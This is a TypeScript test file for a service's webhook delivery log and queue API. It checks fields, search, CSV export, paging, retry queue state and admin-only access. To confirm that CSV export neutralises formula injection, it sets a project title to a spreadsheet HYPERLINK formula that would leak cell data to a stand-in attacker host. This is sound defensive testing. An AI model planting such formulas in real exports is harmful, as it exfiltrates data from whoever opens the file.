// The webhook delivery log and queue as the hosted service documents them
// (hosted-docs-facts.md 7; hosted docs: Webhooks Logs, Webhooks Queue): the log
// row's fields, its own URL, `search`, `format=csv`, paging; the queue of
// deliveries still waiting. A real engine and real receivers on 127.0.0.1; the
// retry delay is set long so a refused delivery stays waiting while the test looks.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { startTestServer, type TestServer } from '../testing/test-server.ts';
import { startWebhookReceiver, type WebhookReceiver } from '../testing/webhook-receiver.ts';
import { DEMO_USERS } from '../seed/demo-seed.ts';
import { apiPaths } from '../../../shared/api-paths.ts';
import { WEBHOOK_LOG_CSV_COLUMNS, WEBHOOK_QUEUE_CSV_COLUMNS } from '../../../shared/schemas/webhook.ts';
import { parseCsv } from '../../../shared/csv-parse.ts';
import { STATE_HANG_GUARD_MS } from '../../testing/hang-guards.ts';

const SLOW_RETRY = { retry: { firstDelayMs: 600_000, maxDelayMs: 600_000, giveUpAfterMs: 86_400_000, jitter: 0 }, pollIntervalMs: 50 };
const FORMULA_TITLE = '=HYPERLINK("https://attacker.example/?leak="&A1,"Open")';
const ISO = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d{3})?Z$/;


describe('webhook delivery log and queue', () => {
  let server: TestServer;
  let ok: WebhookReceiver;
  let refusing: WebhookReceiver;
  let token: string;
  let okHook: { id: number; url: string };
  let refusingHook: { id: number; url: string };

  const get = async (path: string, as = token) => {
    const response = await server.request('GET', path, { token: as });
    assert.equal(response.status, 200, `${path}: ${response.text}`);
    return response;
  };
  const log = async (query = '') => (await get(`${apiPaths.webhookProcessLogs(1)}${query}`)).json as Record<string, any>[]; // eslint-disable-line @typescript-eslint/no-explicit-any
  const queue = async (query = '') => (await get(`${apiPaths.webhookQueueModels(1)}${query}`)).json as Record<string, any>[]; // eslint-disable-line @typescript-eslint/no-explicit-any
  const hookFilter = (hook: { url: string }) => `webhook=${encodeURIComponent(hook.url)}`;
  /** Waits until the log has `count` rows of `hook`. */
  const logOf = async (hook: { url: string }, count: number) => {
    const deadline = Date.now() + STATE_HANG_GUARD_MS;
    for (;;) {
      await server.engine.context.webhookWorker!.idle();
      const rows = await log(`?${hookFilter(hook)}`);
      if (rows.length >= count) return rows;
      if (Date.now() > deadline) throw new Error(`expected ${count} log rows, got ${rows.length}`);
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
  };

  before(async () => {
    server = await startTestServer({ webhookDelivery: SLOW_RETRY });
    ok = await startWebhookReceiver(() => 200);
    refusing = await startWebhookReceiver(() => 503);
    token = await server.tokenFor(DEMO_USERS.sunriseAdmin);
    const create = async (endpoint: string) => {
      const created = await server.request('POST', apiPaths.webhooks(1), {
        token,
        body: { endpoint, enabled: true, debug: false, trigger_fields: ['project.notes', 'project.identifier'], payload_fields: ['project.notes'] },
      });
      assert.equal(created.status, 201, created.text);
      return created.json as { id: number; url: string };
    };
    okHook = await create(ok.url);
    refusingHook = await create(`${refusing.url}refuse-me/`);
    // Project 16's title is a formula a member could type (issue 25, item 8): the CSV must not carry it live.
    await server.request('PATCH', apiPaths.project(1, 16), { token, body: { title: FORMULA_TITLE } });
    for (const [projectId, notes] of [[16, 'first, with a comma'], [17, 'second "quoted"\nline'], [18, 'third']] as const) {
      const patched = await server.request('PATCH', apiPaths.project(1, projectId), { token, body: { notes, identifier: `SD-${projectId}` } });
      assert.equal(patched.status, 200, patched.text);
    }
    await logOf(okHook, 3);
    await logOf(refusingHook, 1);
  });
  after(async () => {
    await ok.close();
    await refusing.close();
    await server.close();
  });

  test('a log row carries every documented field, in the documented order', async () => {
    const [row] = await log(`?${hookFilter(okHook)}&limit=1`);
    assert.deepEqual(Object.keys(row!).slice(0, 14), [
      'url', 'org', 'webhook', 'created_date', 'modified_date', 'successful', 'model_name', 'model_pk',
      'event_queue_name', 'event_id', 'event_name', 'event_timestamp', 'notes', 'id',
    ]);
    assert.equal(row!.url, `${server.baseUrl}${apiPaths.webhookProcessLog(1, row!.id)}`);
    assert.equal(row!.org, `${server.baseUrl}${apiPaths.org(1)}`);
    assert.equal(row!.webhook, okHook.url);
    assert.equal(row!.event_queue_name, 'WebhookQueueModel');
    assert.equal(row!.model_name, 'Project');
    assert.equal(row!.model_pk, 18);
    assert.equal(row!.event_name, 'UPDATE');
    assert.equal(row!.successful, true);
    assert.equal(row!.modified_date, row!.created_date);
  });

  test('event_timestamp is an ISO 8601 date-time: the time the delivery body gives in epoch seconds', async () => {
    const rows = await log(`?${hookFilter(okHook)}`);
    for (const row of rows) {
      assert.match(row.event_timestamp, ISO);
      const sent = ok.calls.find((call) => call.body.event_id === row.event_id);
      assert.ok(sent, `the delivery of event ${row.event_id}`);
      assert.equal(Date.parse(row.event_timestamp), Number(sent.body.timestamp) * 1000);
    }
  });

  test('a log row’s url answers that row; an unknown id is 404', async () => {
    const [row] = await log('?limit=1');
    const detail = await get(new URL(row!.url).pathname);
    assert.deepEqual(detail.json, row);
    assert.equal((await server.request('GET', apiPaths.webhookProcessLog(1, 999_999), { token })).status, 404);
  });

  test('search finds a term anywhere in the row: model, event, notes, record id, endpoint', async () => {
    const all = await log('?limit=1000');
    const ids = (rows: Record<string, unknown>[]) => rows.map((row) => row.id);
    assert.deepEqual(ids(await log('?search=project&limit=1000')), ids(all), 'model name, case-insensitive');
    assert.deepEqual(ids(await log('?search=UPDATE&limit=1000')), ids(all), 'event name');
    const refused = all.filter((row) => /HTTP 503/.test(row.notes));
    assert.ok(refused.length >= 1);
    assert.deepEqual(ids(await log(`?search=${encodeURIComponent('HTTP 503')}&limit=1000`)), ids(refused), 'notes: both words');
    assert.deepEqual(ids(await log('?search=refuse-me&limit=1000')), ids(all.filter((row) => row.webhook === refusingHook.url)), 'webhook endpoint');
    assert.deepEqual(ids(await log('?search=17&limit=1000')).length > 0, true);
    // A row may match "17" in any field the search reads, its webhook's endpoint included: the
    // receivers' ports are random, and one with 17 in it matches all of its rows (a check that left
    // the endpoint out failed whenever a port held 17).
    const endpointOf = new Map([[okHook.url, ok.url], [refusingHook.url, `${refusing.url}refuse-me/`]]);
    for (const row of await log('?search=17&limit=1000')) {
      const searched = [row.model_name, row.event_name, row.notes, row.model_pk, row.event_id, row.id, endpointOf.get(row.webhook)].map(String);
      assert.ok(searched.some((field) => field.toLowerCase().includes('17')), JSON.stringify(row));
    }
    assert.ok((await log('?search=17&limit=1000')).some((row) => row.model_pk === 17), 'record id');
    assert.deepEqual(await log('?search=nothing-like-this'), []);
    // Every word must be found: "503 refuse-me" is the refused attempts, "503 ok-only" none.
    assert.deepEqual(ids(await log(`?search=${encodeURIComponent('503 refuse-me')}&limit=1000`)), ids(refused));
    assert.deepEqual(await log(`?search=${encodeURIComponent('503 zzz')}`), []);
    // % and _ are text, not wildcards.
    assert.deepEqual(await log('?search=%25'), []);
  });

  test('format=csv answers the same rows as CSV under a header row', async () => {
    const json = await log('?limit=50');
    const response = await get(`${apiPaths.webhookProcessLogs(1)}?limit=50&format=csv`);
    assert.match(response.headers.get('content-type') ?? '', /^text\/csv/);
    const [header, ...rows] = parseCsv(response.text);
    assert.deepEqual(header, WEBHOOK_LOG_CSV_COLUMNS);
    assert.equal(rows.length, json.length);
    rows.forEach((fields, index) => {
      const row = json[index]!;
      assert.equal(Number(fields[header!.indexOf('id')]), row.id);
      assert.equal(fields[header!.indexOf('url')], row.url);
      assert.equal(fields[header!.indexOf('notes')], row.notes);
      assert.equal(fields[header!.indexOf('successful')], String(row.successful));
      assert.equal(fields[header!.indexOf('event_timestamp')], row.event_timestamp);
    });
  });

  test('format=csv neutralises a cell a spreadsheet would run as a formula (OWASP: a leading quote)', async () => {
    const json = await log(`?${hookFilter(okHook)}&limit=50`);
    assert.ok(json.some((row) => row.record_title === FORMULA_TITLE), 'the JSON carries the title as it is');
    const response = await get(`${apiPaths.webhookProcessLogs(1)}?${hookFilter(okHook)}&limit=50&format=csv`);
    assert.ok(response.text.includes(`"'=HYPERLINK(""https://attacker.example/?leak=""&A1,""Open"")"`), response.text);
    const [header, ...rows] = parseCsv(response.text);
    const titles = rows.map((fields) => fields[header!.indexOf('record_title')]!);
    assert.ok(titles.includes(`'${FORMULA_TITLE}`), titles.join(' | '));
    for (const fields of rows) {
      for (const cell of fields) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a cell a spreadsheet would run: ${cell}`);
    }
  });

  test('format=csv takes search and paging like the JSON', async () => {
    const json = await log('?search=refuse-me&limit=2&page=2');
    const [, ...rows] = parseCsv((await get(`${apiPaths.webhookProcessLogs(1)}?search=refuse-me&limit=2&page=2&format=csv`)).text);
    assert.deepEqual(rows.map((fields) => Number(fields[WEBHOOK_LOG_CSV_COLUMNS.indexOf('id')])), json.map((row) => row.id));
  });

  test('limit and page cut the log, newest first; a page past the end is 200 []', async () => {
    const all = await log('?limit=1000');
    assert.deepEqual((await log('?limit=2&page=2')).map((row) => row.id), all.slice(2, 4).map((row) => row.id));
    assert.deepEqual(all.map((row) => row.id), [...all.map((row) => row.id)].sort((a, b) => b - a));
    assert.deepEqual(await log('?limit=20&page=99'), []);
    assert.deepEqual(parseCsv((await get(`${apiPaths.webhookProcessLogs(1)}?limit=20&page=99&format=csv`)).text), [WEBHOOK_LOG_CSV_COLUMNS]);
  });

  test('a format other than json or csv is a 400', async () => {
    const response = await server.request('GET', `${apiPaths.webhookProcessLogs(1)}?format=xml`, { token });
    assert.equal(response.status, 400);
    assert.ok(response.json.format, response.text);
  });

  test('the queue lists the deliveries still waiting, with every documented field', async () => {
    const entries = await queue('?limit=100');
    // The refused webhook's three changes wait (its lane stops at the first refusal).
    const held = entries.filter((entry) => entry.webhook === refusingHook.url);
    assert.equal(held.length, 3);
    assert.deepEqual(Object.keys(held[0]!), [
      'url', 'org', 'webhook', 'number_of_attempts', 'next_attempt_at', 'processing_started_at', 'model_name', 'model_pk', 'event', 'foreign_identifier', 'id',
    ]);
    assert.deepEqual(held.map((entry) => [entry.model_name, entry.model_pk, entry.event, entry.foreign_identifier]), [
      ['Project', 16, 'UPDATE', 'SD-16'],
      ['Project', 17, 'UPDATE', 'SD-17'],
      ['Project', 18, 'UPDATE', 'SD-18'],
    ]);
    for (const entry of held) {
      assert.equal(entry.url, `${server.baseUrl}${apiPaths.webhookQueueModel(1, entry.id)}`);
      assert.equal(entry.org, `${server.baseUrl}${apiPaths.org(1)}`);
      assert.match(entry.next_attempt_at, ISO);
      assert.equal(entry.processing_started_at, null);
    }
  });

  test('a refused delivery waits in the queue with its attempts counted and its next attempt ahead', async () => {
    const waiting = (await queue('?limit=100')).filter((entry) => entry.webhook === refusingHook.url);
    // All three wait: the lane stops at the first refusal until its retry, ten minutes ahead.
    assert.equal(waiting.length, 3);
    const [head] = waiting;
    assert.equal(head!.model_pk, 16);
    assert.equal(head!.number_of_attempts, 1);
    assert.ok(Date.parse(head!.next_attempt_at) > Date.now() + 60_000, head!.next_attempt_at);
    for (const entry of waiting) assert.equal(entry.processing_started_at, null);
    const attempted = (await log(`?${hookFilter(refusingHook)}`)).length;
    assert.equal(waiting.reduce((sum, entry) => sum + entry.number_of_attempts, 0), attempted, 'each logged attempt is counted');
  });

  test('a delivered change leaves the queue', async () => {
    const entries = await queue('?limit=100');
    assert.ok(!entries.some((entry) => entry.webhook === okHook.url));
  });

  test('a queue entry’s url answers that entry; a delivered or unknown one is 404', async () => {
    const [entry] = await queue('?limit=1');
    assert.deepEqual((await get(new URL(entry!.url).pathname)).json, entry);
    const delivered = (await log(`?${hookFilter(okHook)}&limit=1`))[0]!;
    const deliveredRow = await server.engine.context.db.selectFrom('webhook_process_logs').select('delivery_id').where('id', '=', delivered.id).executeTakeFirstOrThrow();
    assert.equal((await server.request('GET', apiPaths.webhookQueueModel(1, deliveredRow.delivery_id), { token })).status, 404);
    assert.equal((await server.request('GET', apiPaths.webhookQueueModel(1, 999_999), { token })).status, 404);
  });

  test('a delivery being sent shows when its processing started', async () => {
    let release: () => void = () => {};
    const hanging = new Promise<number>((resolve) => (release = () => resolve(200)));
    const slow = await startWebhookReceiver(() => hanging);
    try {
      const created = await server.request('POST', apiPaths.webhooks(1), { token, body: { endpoint: slow.url, enabled: true, debug: false, trigger_fields: ['project.notes'] } });
      const before = Date.now();
      await server.request('PATCH', apiPaths.project(1, 19), { token, body: { notes: 'in flight' } });
      await slow.waitForCalls(1);
      const entry = (await queue('?limit=100')).find((candidate) => candidate.webhook === created.json.url);
      assert.ok(entry, 'in the queue while it is being sent');
      assert.match(entry.processing_started_at, ISO);
      assert.ok(Date.parse(entry.processing_started_at) >= before - 1000);
      release();
      const deadline = Date.now() + STATE_HANG_GUARD_MS;
      while ((await queue('?limit=100')).some((candidate) => candidate.webhook === created.json.url)) {
        assert.ok(Date.now() < deadline, 'the delivery leaves the queue once answered');
        await server.engine.context.webhookWorker!.idle();
      }
      await server.request('DELETE', apiPaths.webhook(1, created.json.id), { token });
    } finally {
      release();
      await slow.close();
    }
  });

  test('the queue takes format=csv, limit, page and range', async () => {
    const all = await queue('?limit=100');
    assert.ok(all.length >= 3);
    const [header, ...rows] = parseCsv((await get(`${apiPaths.webhookQueueModels(1)}?limit=100&format=csv`)).text);
    assert.deepEqual(header, WEBHOOK_QUEUE_CSV_COLUMNS);
    assert.deepEqual(rows.map((fields) => Number(fields[header!.indexOf('id')])), all.map((entry) => entry.id));
    assert.deepEqual(rows.map((fields) => fields[header!.indexOf('processing_started_at')]), all.map(() => ''), 'null is empty');
    assert.deepEqual((await queue('?limit=2&page=2')).map((entry) => entry.id), all.slice(2, 4).map((entry) => entry.id));
    assert.deepEqual((await queue(`?range=${encodeURIComponent('[1,3]')}`)).map((entry) => entry.id), all.slice(1, 4).map((entry) => entry.id));
    assert.deepEqual(await queue('?limit=100&page=50'), []);
  });

  test('only the org’s admins read the log and the queue; another org’s are 403', async () => {
    const member = await server.tokenFor(DEMO_USERS.sunriseMember);
    const [row] = await log('?limit=1');
    const [entry] = await queue('?limit=1');
    for (const path of [apiPaths.webhookProcessLogs(1), apiPaths.webhookProcessLog(1, row!.id), apiPaths.webhookQueueModels(1), apiPaths.webhookQueueModel(1, entry!.id)]) {
      assert.equal((await server.request('GET', path, { token: member })).status, 403, path);
    }
    const other = await server.tokenFor(DEMO_USERS.basicAdmin);
    for (const path of [apiPaths.webhookProcessLog(1, row!.id), apiPaths.webhookQueueModel(1, entry!.id)]) {
      assert.equal((await server.request('GET', path, { token: other })).status, 403, path);
    }
    // Named under the caller's own org, another org's row does not exist there.
    assert.equal((await server.request('GET', apiPaths.webhookProcessLog(2, row!.id), { token: other })).status, 404);
    assert.equal((await server.request('GET', apiPaths.webhookQueueModel(2, entry!.id), { token: other })).status, 404);
  });
});
